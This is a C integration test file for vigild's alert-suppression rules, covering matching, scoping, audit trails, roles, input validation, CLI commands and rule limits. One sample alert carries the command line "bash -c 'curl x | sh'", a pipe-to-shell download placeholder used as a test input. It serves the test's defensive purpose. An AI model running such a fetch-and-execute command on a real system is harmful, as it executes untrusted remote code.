/* Integration: defend's suppression rules on a real vigild over HTTPS with
 * real enrolled device certificates. Covers creating rules; an uploaded
 * alert that a rule matches stored resolved (history, comment, hit count)
 * while the device's risk stays none, and one that does not match raising
 * it; conditions on rule id, image, command line, device ids and hostname;
 * apply_to_existing lowering a device's risk; disabled and expired rules not
 * matching; the audit (who, when, before and after) of create, enable,
 * update and delete; roles; bad inputs refused with a clear error and
 * nothing changed; the CLI's suppressions commands; the rules compiled
 * again when vigild restarts; and the cap on rules. */
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/wait.h>
#include <cmocka.h>

#include "crypto/crypto.h"
#include "tests/integration/harness.h"
#include "util/strutil.h"


static struct harness H;

/* web-01, db-01, web-02, build-01, build-02 */
static struct harness_device A, B, C, D, E;
static char *reader_token, *it_token, *alice_token, *alice_id;

static int group_setup(void **state)
{
        if (harness_start(&H, NULL) < 0)
                return -1;
        if (harness_enroll(&H, &A, "web-01") < 0 || harness_enroll(&H, &B, "db-01") < 0 ||
            harness_enroll(&H, &C, "web-02") < 0 || harness_enroll(&H, &D, "build-01") < 0 ||
            harness_enroll(&H, &E, "build-02") < 0)
                return -1;
        reader_token = harness_new_token(&H, "reader", "rita", NULL);
        it_token = harness_new_token(&H, "it_admin", "ivan", NULL);
        alice_token = harness_new_token(&H, "security_admin", "alice", &alice_id);
        return reader_token && it_token && alice_token ? 0 : -1;
}

static int group_teardown(void **state)
{
        struct harness_device *devs[] = { &A, &B, &C, &D, &E };

        for (size_t i = 0; i < 5; i++)
                httpc_free(devs[i]->c);
        free(reader_token);
        free(it_token);
        free(alice_token);
        free(alice_id);
        return harness_stop(&H);
}

/* Uploads one alert of the given rule, severity and process; returns the
 * new alert's id in id. */
static void upload_one(struct harness_device *dev, char id[37], const char *severity, const char *rule, const char *image,
                       const char *cmd)
{
        json_t *a, *b, *ans = NULL;
        char err[512], *text;
        long st = -1;

        assert_int_equal(crypto_uuid4(id), 0);
        a = json_pack("{s:s,s:s,s:s,s:s,s:s,s:s,s:s,s:[s],s:[s],s:s,s:s,s:s,s:i,"
                      "s:{s:i,s:i},s:{s:i,s:s,s:s},s:[{s:i,s:s}],s:{s:s}}",
                      "change", "new", "id", id, "rule_id", rule, "title", "Test alert", "source", "sigma",
                      "severity", severity, "rule_level", severity, "techniques", "T1059", "tactics", "execution",
                      "category", "process_creation", "first_seen", "2026-11-30T04:00:00Z",
                      "last_seen", "2026-11-30T04:00:00Z", "count", 1, "tree", "pid", 10, "start_ticks", 5,
                      "process", "pid", 11, "image", image, "command_line", cmd,
                      "ancestors", "pid", 1, "image", "/sbin/init", "event", "EventType", "process_exec");
        b = json_pack("{s:[o]}", "alerts", a);
        text = json_dumps(b, JSON_COMPACT);
        assert_int_equal(httpc_request(dev->c, "POST", "/agent/v1/alerts", NULL, text, strlen(text), &st, &ans,
                                       err, sizeof(err)), 0);
        assert_int_equal(st, 200);
        assert_string_equal(json_string_value(json_object_get(json_array_get(json_object_get(ans, "results"), 0),
                                                              "status")), "stored");
        json_decref(ans);
        json_decref(b);
        free(text);
}

static json_t *get_json(const char *path, long want)
{
        json_t *j = NULL;

        assert_int_equal(harness_admin(&H, "GET", path, NULL, NULL, &j), want);
        return j;
}

static void assert_alert_status(const char *id, const char *want)
{
        char path[128];
        json_t *j;

        snprintf(path, sizeof(path), "/api/v1/alerts/%s", id);
        j = get_json(path, 200);
        assert_string_equal(json_string_value(json_object_get(j, "status")), want);
        json_decref(j);
}

static void assert_risk(struct harness_device *dev, const char *want)
{
        char path[128];
        json_t *j;

        snprintf(path, sizeof(path), "/api/v1/devices/%s", dev->id);
        j = get_json(path, 200);
        assert_string_equal(json_string_value(json_object_get(j, "risk_level")), want);
        json_decref(j);
}

/* POSTs a rule (body taken) and returns it; its id in id. */
static json_t *create(json_t *body, long want, char id[37])
{
        char *text = json_dumps(body, JSON_COMPACT);
        json_t *j = NULL;

        assert_int_equal(harness_admin(&H, "POST", "/api/v1/suppressions", NULL, text, &j), want);
        if (id && want == 201)
                snprintf(id, 37, "%s", json_string_value(json_object_get(j, "id")));
        free(text);
        json_decref(body);
        return j;
}

static long suppression_count(void)
{
        json_t *j = get_json("/api/v1/suppressions", 200);
        long n = (long)json_integer_value(json_object_get(j, "count"));

        json_decref(j);
        return n;
}

static json_t *get_rule(const char *id, long want)
{
        char path[128];

        snprintf(path, sizeof(path), "/api/v1/suppressions/%s", id);
        return get_json(path, want);
}

static json_t *audit_of(const char *id)
{
        char path[128];

        snprintf(path, sizeof(path), "/api/v1/suppressions/%s/audit", id);
        return get_json(path, 200);
}

static long patch_rule(const char *id, const char *bearer, const char *body, json_t **ret)
{
        char path[128];

        snprintf(path, sizeof(path), "/api/v1/suppressions/%s", id);
        return harness_admin(&H, "PATCH", path, bearer, body, ret);
}

/* A matching upload arrives resolved (history and comment name the rule,
 * the rule counts the hit) and the risk stays none; one that differs in
 * its command line raises it. */
static void test_match_on_upload(void **state)
{
        char rid[37], a1[37], a2[37], path[128], by[64];
        json_t *r, *al, *h;

        r = create(json_pack("{s:s,s:s,s:{s:s,s:s,s:s}}", "name", "backup script", "comment",
                             "nightly backup runs bash from cron", "conditions", "rule_id", "rule-noisy",
                             "image", "/usr/bin/ba*", "command_line", "bash -c /opt/backup/*.sh"), 201, rid);
        assert_true(json_is_true(json_object_get(r, "enabled")));
        assert_int_equal(json_integer_value(json_object_get(r, "hits")), 0);
        assert_true(json_is_null(json_object_get(r, "last_hit_at")));
        assert_string_equal(json_string_value(json_object_get(json_object_get(r, "conditions"), "image")),
                            "/usr/bin/ba*");
        json_decref(r);

        upload_one(&A, a1, "high", "rule-noisy", "/usr/bin/bash", "bash -c /opt/backup/daily.sh");
        assert_alert_status(a1, "resolved");
        assert_risk(&A, "none");
        snprintf(path, sizeof(path), "/api/v1/alerts/%s", a1);
        al = get_json(path, 200);
        h = json_array_get(json_object_get(al, "history"), 0);
        snprintf(by, sizeof(by), "suppression:%s", rid);
        assert_string_equal(json_string_value(json_object_get(h, "by")), by);
        assert_string_equal(json_string_value(json_object_get(h, "by_name")), "backup script");
        assert_string_equal(json_string_value(json_object_get(h, "to")), "resolved");
        assert_non_null(strstr(json_string_value(json_object_get(json_array_get(json_object_get(al, "comments"), 0),
                                                                 "text")), "nightly backup"));
        /* left for the analysts */
        assert_string_equal(json_string_value(json_object_get(al, "classification")), "unknown");
        assert_false(json_is_null(json_object_get(al, "resolved_at")));
        json_decref(al);
        r = get_rule(rid, 200);
        assert_int_equal(json_integer_value(json_object_get(r, "hits")), 1);
        assert_false(json_is_null(json_object_get(r, "last_hit_at")));
        json_decref(r);

        /* same rule and image, another command line: not suppressed */
        upload_one(&A, a2, "medium", "rule-noisy", "/usr/bin/bash", "bash -c 'curl x | sh'");
        assert_alert_status(a2, "new");
        assert_risk(&A, "medium");
        /* the suppressed alert is kept: reopened, it counts again */
        snprintf(path, sizeof(path), "/api/v1/alerts/%s", a1);
        assert_int_equal(harness_admin(&H, "PATCH", path, NULL, "{\"status\":\"in_progress\"}", NULL), 200);
        assert_risk(&A, "high");
}

/* device_ids and the hostname (case-insensitive glob) scope a rule. */
static void test_device_scope(void **state)
{
        char rid[37], a[37];
        json_t *r;

        r = create(json_pack("{s:s,s:s,s:{s:s,s:s}}", "name", "web hosts", "comment", "nginx reloads",
                             "conditions", "rule_id", "rule-host", "device_name", "WEB-*"), 201, rid);
        json_decref(r);
        upload_one(&C, a, "high", "rule-host", "/usr/sbin/nginx", "nginx -s reload");
        assert_alert_status(a, "resolved");
        assert_risk(&C, "none");
        upload_one(&B, a, "low", "rule-host", "/usr/sbin/nginx", "nginx -s reload");
        assert_alert_status(a, "new");
        assert_risk(&B, "low");

        r = create(json_pack("{s:s,s:s,s:{s:s,s:[s]}}", "name", "build box", "comment", "compilers look odd",
                             "conditions", "rule_id", "rule-dev", "device_ids", D.id), 201, rid);
        json_decref(r);
        upload_one(&D, a, "high", "rule-dev", "/usr/bin/cc", "cc -o x x.c");
        assert_alert_status(a, "resolved");
        assert_risk(&D, "none");
        upload_one(&B, a, "medium", "rule-dev", "/usr/bin/cc", "cc -o x x.c");
        assert_alert_status(a, "new");
        assert_risk(&B, "medium");
}

/* apply_to_existing resolves the unresolved alerts it matches and lowers
 * the device's risk, with the timeline naming the rule. */
static void test_apply_to_existing(void **state)
{
        char rid[37], a1[37], a2[37], other[37], path[128], by[64];
        json_t *r, *applied, *tl;

        upload_one(&D, a1, "high", "rule-late", "/usr/bin/make", "make -j2");
        upload_one(&D, a2, "high", "rule-late", "/usr/bin/make", "make install");
        upload_one(&E, other, "low", "rule-late", "/usr/bin/python3", "python3 x.py");
        assert_risk(&D, "high");
        assert_risk(&E, "low");
        r = create(json_pack("{s:s,s:s,s:{s:s,s:s},s:b}", "name", "make", "comment", "builds",
                             "conditions", "rule_id", "rule-late", "image", "/usr/bin/make",
                             "apply_to_existing", 1), 201, rid);
        applied = json_object_get(r, "applied");
        assert_int_equal(json_integer_value(json_object_get(applied, "resolved")), 2);
        assert_int_equal(json_array_size(json_object_get(applied, "alert_ids")), 2);
        assert_true(json_is_false(json_object_get(applied, "more")));
        assert_int_equal(json_integer_value(json_object_get(r, "hits")), 2);
        json_decref(r);
        assert_alert_status(a1, "resolved");
        assert_alert_status(a2, "resolved");
        assert_alert_status(other, "new");
        assert_risk(&D, "none");
        assert_risk(&E, "low");
        /* widened by PATCH and applied again: E's alert too, audited as update */
        assert_int_equal(patch_rule(rid, NULL, "{\"conditions\":{\"rule_id\":\"rule-late\"},"
                                    "\"apply_to_existing\":true}", &r), 200);
        assert_int_equal(json_integer_value(json_object_get(json_object_get(r, "applied"), "resolved")), 1);
        json_decref(r);
        assert_alert_status(other, "resolved");
        assert_risk(&E, "none");
        /* nothing left to apply: an 'apply' audit row, nothing resolved */
        assert_int_equal(patch_rule(rid, NULL, "{\"apply_to_existing\":true}", &r), 200);
        assert_int_equal(json_integer_value(json_object_get(json_object_get(r, "applied"), "resolved")), 0);
        json_decref(r);
        {
                json_t *au = audit_of(rid);
                const json_t *v = json_object_get(au, "value");
                assert_int_equal(json_array_size(v), 3);
                assert_string_equal(json_string_value(json_object_get(json_array_get(v, 0), "action")), "apply");
                assert_string_equal(json_string_value(json_object_get(json_array_get(v, 1), "action")), "update");
                assert_string_equal(json_string_value(json_object_get(json_array_get(v, 2), "action")), "create");
                json_decref(au);
        }
        snprintf(path, sizeof(path), "/api/v1/devices/%s/timeline", D.id);
        tl = get_json(path, 200);
        snprintf(by, sizeof(by), "suppression:%s", rid);
        assert_string_equal(json_string_value(json_object_get(json_array_get(json_object_get(tl, "value"), 0), "by")),
                            by);
        assert_string_equal(json_string_value(json_object_get(json_array_get(json_object_get(tl, "value"), 0), "to")),
                            "none");
        json_decref(tl);
}

/* A disabled rule does not match until enabled; an expired one no longer
 * matches. The audit keeps who and when for each change. */
static void test_disabled_expired_audit(void **state)
{
        char rid[37], xid[37], a[37], exp[21];
        json_t *r, *au, *v;

        r = create(json_pack("{s:s,s:s,s:b,s:{s:s}}", "name", "off", "comment", "not yet", "enabled", 0,
                             "conditions", "rule_id", "rule-off"), 201, rid);
        json_decref(r);
        upload_one(&E, a, "medium", "rule-off", "/bin/true", "true");
        assert_alert_status(a, "new");
        assert_risk(&E, "medium");
        /* alice enables it */
        assert_int_equal(patch_rule(rid, alice_token, "{\"enabled\":true}", NULL), 200);
        upload_one(&E, a, "high", "rule-off", "/bin/true", "true");
        assert_alert_status(a, "resolved");
        assert_risk(&E, "medium");
        /* a PATCH that changes nothing leaves no audit row */
        assert_int_equal(patch_rule(rid, NULL, "{\"enabled\":true}", NULL), 200);
        assert_int_equal(patch_rule(rid, NULL, "{\"comment\":\"now it is time\"}", NULL), 200);
        au = audit_of(rid);
        assert_int_equal(json_integer_value(json_object_get(au, "count")), 3);
        v = json_array_get(json_object_get(au, "value"), 0);
        assert_string_equal(json_string_value(json_object_get(v, "action")), "update");
        assert_string_equal(json_string_value(json_object_get(json_object_get(v, "before"), "comment")), "not yet");
        assert_string_equal(json_string_value(json_object_get(json_object_get(v, "after"), "comment")),
                            "now it is time");
        v = json_array_get(json_object_get(au, "value"), 1);
        assert_string_equal(json_string_value(json_object_get(v, "action")), "enable");
        assert_string_equal(json_string_value(json_object_get(v, "by")), alice_id);
        assert_string_equal(json_string_value(json_object_get(v, "by_name")), "alice");
        assert_non_null(strstr(json_string_value(json_object_get(v, "at")), "T"));
        assert_true(json_is_false(json_object_get(json_object_get(v, "before"), "enabled")));
        assert_true(json_is_true(json_object_get(json_object_get(v, "after"), "enabled")));
        v = json_array_get(json_object_get(au, "value"), 2);
        assert_string_equal(json_string_value(json_object_get(v, "action")), "create");
        assert_true(json_is_null(json_object_get(v, "before")));
        json_decref(au);

        /* expires two seconds from now */
        util_time_format(util_now() + 2, exp);
        r = create(json_pack("{s:s,s:s,s:s,s:{s:s}}", "name", "short", "comment", "maintenance window",
                             "expires_at", exp, "conditions", "rule_id", "rule-exp"), 201, xid);
        json_decref(r);
        upload_one(&C, a, "low", "rule-exp", "/bin/true", "true");
        assert_alert_status(a, "resolved");
        sleep(3);
        upload_one(&C, a, "low", "rule-exp", "/bin/true", "true");
        assert_alert_status(a, "new");
        assert_risk(&C, "low");
        r = get_rule(xid, 200);
        assert_true(json_is_true(json_object_get(r, "expired")));
        json_decref(r);

        /* deleted: gone, its audit kept, its alerts still resolved */
        {
                char path[128];
                snprintf(path, sizeof(path), "/api/v1/suppressions/%s", rid);
                assert_int_equal(harness_admin(&H, "DELETE", path, NULL, NULL, NULL), 200);
                assert_int_equal(harness_admin(&H, "DELETE", path, NULL, NULL, NULL), 404);
        }
        json_decref(get_rule(rid, 404));
        au = audit_of(rid);
        v = json_array_get(json_object_get(au, "value"), 0);
        assert_string_equal(json_string_value(json_object_get(v, "action")), "delete");
        assert_true(json_is_null(json_object_get(v, "after")));
        assert_string_equal(json_string_value(json_object_get(json_object_get(v, "before"), "name")), "off");
        json_decref(au);
        upload_one(&E, a, "low", "rule-off", "/bin/true", "true");
        assert_alert_status(a, "new");
}

/* Readers and IT admins read; only security admins write. */
static void test_roles(void **state)
{
        const char *body = "{\"name\":\"x\",\"comment\":\"y\",\"conditions\":{\"rule_id\":\"r\"}}";
        long n = suppression_count();
        char rid[37], path[128];
        json_t *r;

        assert_int_equal(harness_admin(&H, "GET", "/api/v1/suppressions", reader_token, NULL, NULL), 200);
        assert_int_equal(harness_admin(&H, "POST", "/api/v1/suppressions", reader_token, body, NULL), 403);
        assert_int_equal(harness_admin(&H, "POST", "/api/v1/suppressions", it_token, body, NULL), 403);
        r = create(json_loads(body, 0, NULL), 201, rid);
        json_decref(r);
        snprintf(path, sizeof(path), "/api/v1/suppressions/%s", rid);
        assert_int_equal(harness_admin(&H, "GET", path, reader_token, NULL, NULL), 200);
        assert_int_equal(patch_rule(rid, reader_token, "{\"enabled\":false}", NULL), 403);
        assert_int_equal(harness_admin(&H, "DELETE", path, reader_token, NULL, NULL), 403);
        snprintf(path, sizeof(path), "/api/v1/suppressions/%s/audit", rid);
        assert_int_equal(harness_admin(&H, "GET", path, reader_token, NULL, NULL), 200);
        r = get_rule(rid, 200);
        assert_true(json_is_true(json_object_get(r, "enabled")));
        json_decref(r);
        assert_int_equal(suppression_count(), n + 1);
}

static void expect_refused(const char *method, const char *path, const char *body, long status, const char *code,
                           const char *words)
{
        json_t *j = NULL;
        const char *msg;

        assert_int_equal(harness_admin(&H, method, path, NULL, body, &j), status);
        assert_string_equal(json_string_value(json_object_get(json_object_get(j, "error"), "code")), code);
        msg = json_string_value(json_object_get(json_object_get(j, "error"), "message"));
        if (!strstr(msg, words))
                fail_msg("'%s' does not say '%s'", msg, words);
        json_decref(j);
}

/* Bad bodies: a 400 naming the problem, and nothing changed. */
static void test_bad_inputs(void **state)
{
        static const struct { const char *body, *code, *words; } cases[] = {
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{}}", "invalid_request", "at least one" },
                { "{\"name\":\"n\",\"conditions\":{\"rule_id\":\"r\"}}", "invalid_request", "'comment'" },
                { "{\"name\":\"n\",\"comment\":\"\",\"conditions\":{\"rule_id\":\"r\"}}", "invalid_request",
                  "'comment' must be a non-empty string" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"image\":\"/usr/\\\\bin\"}}", "invalid_request",
                  "'conditions.image' is not a valid pattern" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"image\":\"a*b*c*d*e*f*g*h*i*j*k*l*m*n*o*p*q*\"}}",
                  "invalid_request", "more than 16 '*'" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"command_line\":7}}", "invalid_request",
                  "must be a string" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"severity\":\"low\",\"conditions\":{\"rule_id\":\"r\"}}",
                  "invalid_request", "unknown member 'severity'" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"user\":\"root\"}}", "invalid_request",
                  "unknown condition 'user'" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"device_group\":\"servers\"}}",
                  "invalid_request", "no device group with id 'servers'" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"device_ids\":[\"no-such-device\"]}}",
                  "invalid_request", "no device with id 'no-such-device'" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"expires_at\":\"2020-01-01T00:00:00Z\","
                  "\"conditions\":{\"rule_id\":\"r\"}}", "invalid_request", "already passed" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"expires_at\":\"tomorrow\",\"conditions\":{\"rule_id\":\"r\"}}",
                  "invalid_request", "RFC 3339" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"enabled\":\"yes\",\"conditions\":{\"rule_id\":\"r\"}}",
                  "invalid_request", "'enabled' must be true or false" },
                { "{\"name\":\"n\",\"comment\":\"c\",\"enabled\":false,\"apply_to_existing\":true,"
                  "\"conditions\":{\"rule_id\":\"r\"}}", "invalid_request", "needs an enabled rule" },
                { "[1]", "invalid_json", "JSON object" },
        };
        char body[8192], rid[37], name[300];
        long n = suppression_count();
        json_t *ids, *r, *au;
        size_t i, len;

        for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
                expect_refused("POST", "/api/v1/suppressions", cases[i].body, 400, cases[i].code, cases[i].words);
        memset(name, 'n', 200);
        name[200] = '\0';
        snprintf(body, sizeof(body), "{\"name\":\"%s\",\"comment\":\"c\",\"conditions\":{\"rule_id\":\"r\"}}", name);
        expect_refused("POST", "/api/v1/suppressions", body, 400, "invalid_request", "at most 128 bytes");
        /* 101 device ids */
        ids = json_array();
        for (i = 0; i < 101; i++)
                json_array_append_new(ids, json_string(A.id));
        r = json_pack("{s:s,s:s,s:{s:o}}", "name", "n", "comment", "c", "conditions", "device_ids", ids);
        {
                char *t = json_dumps(r, JSON_COMPACT);
                expect_refused("POST", "/api/v1/suppressions", t, 400, "too_many", "at most 100");
                free(t);
        }
        json_decref(r);
        /* a pattern of 1025 bytes */
        len = (size_t)snprintf(body, sizeof(body), "{\"name\":\"n\",\"comment\":\"c\",\"conditions\":{\"image\":\"");
        memset(body + len, 'x', 1025);
        snprintf(body + len + 1025, sizeof(body) - len - 1025, "\"}}");
        expect_refused("POST", "/api/v1/suppressions", body, 400, "invalid_request", "1 to 1024 bytes");
        assert_int_equal(suppression_count(), n);

        /* PATCH: refused, and the rule and its audit unchanged */
        r = create(json_pack("{s:s,s:s,s:{s:s}}", "name", "stays", "comment", "as is", "conditions", "rule_id",
                             "rule-stays"), 201, rid);
        json_decref(r);
        snprintf(body, sizeof(body), "/api/v1/suppressions/%s", rid);
        expect_refused("PATCH", body, "{\"conditions\":{}}", 400, "invalid_request", "at least one");
        expect_refused("PATCH", body, "{\"name\":\"x\",\"bogus\":1}", 400, "invalid_request", "unknown member");
        expect_refused("PATCH", body, "{}", 400, "invalid_request", "the body must be");
        expect_refused("PATCH", "/api/v1/suppressions/nope", "{\"name\":\"x\"}", 404, "suppression_not_found", "nope");
        r = get_rule(rid, 200);
        assert_string_equal(json_string_value(json_object_get(r, "name")), "stays");
        json_decref(r);
        au = audit_of(rid);
        assert_int_equal(json_integer_value(json_object_get(au, "count")), 1);
        json_decref(au);
        expect_refused("GET", "/api/v1/suppressions?enabled=maybe", NULL, 400, "invalid_query", "'enabled'");
        expect_refused("GET", "/api/v1/suppressions/nope/audit", NULL, 404, "suppression_not_found", "nope");
}

/* Runs the CLI with the arguments fmt and ap make; it must exit with
 * status and print text (when not NULL). Returns what it printed (free()
 * it). */
static char *cli_vexpect(int status, const char *text, const char *fmt, va_list ap)
{
        char args[1024], *out = NULL;

        vsnprintf(args, sizeof(args), fmt, ap);
        assert_int_equal(harness_cli(&H, args, &out), status);
        if (text)
                assert_non_null(strstr(out, text));
        return out;
}

static char *cli_expect(int status, const char *text, const char *fmt, ...)
{
        va_list ap;
        char *out;

        va_start(ap, fmt);
        out = cli_vexpect(status, text, fmt, ap);
        va_end(ap);
        return out;
}

/* A --json command that succeeds: what it printed, parsed. */
static json_t *cli_json(const char *fmt, ...)
{
        va_list ap;
        char *out;
        json_t *j;

        va_start(ap, fmt);
        out = cli_vexpect(0, NULL, fmt, ap);
        va_end(ap);
        j = json_loads(out, 0, NULL);
        assert_non_null(j);
        free(out);
        return j;
}

static void test_cli(void **state)
{
        char rid[37], *out;
        json_t *j;

        j = cli_json("--json suppressions create --name 'cli rule' --comment 'from the cli' "
                     "--rule rule-cli --device %s --image '/usr/bin/*' --expires 24h", B.id);
        snprintf(rid, sizeof(rid), "%s", json_string_value(json_object_get(j, "id")));
        assert_false(json_is_null(json_object_get(j, "expires_at")));
        assert_string_equal(json_string_value(json_object_get(json_object_get(j, "conditions"), "rule_id")),
                            "rule-cli");
        json_decref(j);
        out = cli_expect(0, rid, "suppressions list");
        assert_non_null(strstr(out, "cli rule"));
        free(out);
        /* a condition changed keeps the others */
        free(cli_expect(0, NULL, "suppressions update %s --disable --command-line 'make *'", rid));
        j = cli_json("--json suppressions show %s", rid);
        assert_true(json_is_false(json_object_get(j, "enabled")));
        assert_string_equal(json_string_value(json_object_get(json_object_get(j, "conditions"), "command_line")),
                            "make *");
        assert_string_equal(json_string_value(json_object_get(json_object_get(j, "conditions"), "rule_id")),
                            "rule-cli");
        json_decref(j);
        out = cli_expect(0, "create", "suppressions audit %s", rid);
        assert_non_null(strstr(out, "update"));
        free(out);
        free(cli_expect(0, NULL, "suppressions delete %s", rid));
        free(cli_expect(1, "no suppression rule", "suppressions show %s", rid));
        free(cli_expect(2, "condition", "suppressions create --name x --comment y"));
        free(cli_expect(1, "not a valid pattern", "suppressions create --name x --comment y --image 'a\\'"));
}

/* vigild stopped and started again on its data directory: the rules are
 * compiled from the database at start and match as before. */
static void test_restart(void **state)
{
        char a[37];
        int status;

        assert_int_equal(kill(H.pid, SIGTERM), 0);
        assert_int_equal(waitpid(H.pid, &status, 0), H.pid);
        assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
        assert_int_equal(harness_restart(&H), 0);
        upload_one(&C, a, "high", "rule-host", "/usr/sbin/nginx", "nginx -s reload");
        assert_alert_status(a, "resolved");
        upload_one(&D, a, "high", "rule-dev", "/usr/bin/cc", "cc -o y y.c");
        assert_alert_status(a, "resolved");
}

/* At most DEFEND_SUPPRESSIONS_MAX (1000) rules. */
/* device_group: a rule scoped to a device group matches its members only,
 * and follows the membership as it changes. */
static void test_device_group(void **state)
{
        char rid[37], gid[37], a[37], path[160], body[160];
        json_t *r = NULL;

        snprintf(body, sizeof(body), "{\"name\":\"builders\",\"kind\":\"static\"}");
        assert_int_equal(harness_admin(&H, "POST", "/api/v1/groups", NULL, body, &r), 201);
        snprintf(gid, sizeof(gid), "%s", json_string_value(json_object_get(r, "id")));
        json_decref(r);
        snprintf(path, sizeof(path), "/api/v1/groups/%s/members", gid);
        snprintf(body, sizeof(body), "{\"devices\":[\"%s\"]}", D.id);
        assert_int_equal(harness_admin(&H, "POST", path, NULL, body, NULL), 200);

        r = create(json_pack("{s:s,s:s,s:{s:s,s:s}}", "name", "builders", "comment", "builds run odd tools",
                             "conditions", "rule_id", "rule-grp", "device_group", gid), 201, rid);
        assert_string_equal(json_string_value(json_object_get(json_object_get(r, "conditions"), "device_group")), gid);
        json_decref(r);
        upload_one(&D, a, "low", "rule-grp", "/usr/bin/make", "make all");
        assert_alert_status(a, "resolved");
        upload_one(&A, a, "low", "rule-grp", "/usr/bin/make", "make all");
        assert_alert_status(a, "new");

        /* the CLI names the group too */
        free(cli_expect(0, gid, "suppressions create --name cli-grp --comment c --device-group %s --rule rule-cli-grp",
                        gid));

        /* out of the group, no longer suppressed */
        snprintf(path, sizeof(path), "/api/v1/groups/%s/members/%s", gid, D.id);
        assert_int_equal(harness_admin(&H, "DELETE", path, NULL, NULL, NULL), 200);
        upload_one(&D, a, "low", "rule-grp", "/usr/bin/make", "make all");
        assert_alert_status(a, "new");
}

static void test_rule_cap(void **state)
{
        long n = suppression_count();
        char body[256];

        for (long i = n; i < 1000; i++) {
                snprintf(body, sizeof(body), "{\"name\":\"cap %ld\",\"comment\":\"c\",\"enabled\":false,"
                         "\"conditions\":{\"rule_id\":\"cap-%ld\"}}", i, i);
                assert_int_equal(harness_admin(&H, "POST", "/api/v1/suppressions", NULL, body, NULL), 201);
        }
        expect_refused("POST", "/api/v1/suppressions", "{\"name\":\"one more\",\"comment\":\"c\","
                       "\"conditions\":{\"rule_id\":\"x\"}}", 409, "limit_reached", "1000");
        assert_int_equal(suppression_count(), 1000);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_match_on_upload),
                cmocka_unit_test(test_device_scope),
                cmocka_unit_test(test_apply_to_existing),
                cmocka_unit_test(test_disabled_expired_audit),
                cmocka_unit_test(test_roles),
                cmocka_unit_test(test_bad_inputs),
                cmocka_unit_test(test_cli),
                cmocka_unit_test(test_restart),
                cmocka_unit_test(test_device_group),
                cmocka_unit_test(test_rule_cap),
        };
        return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
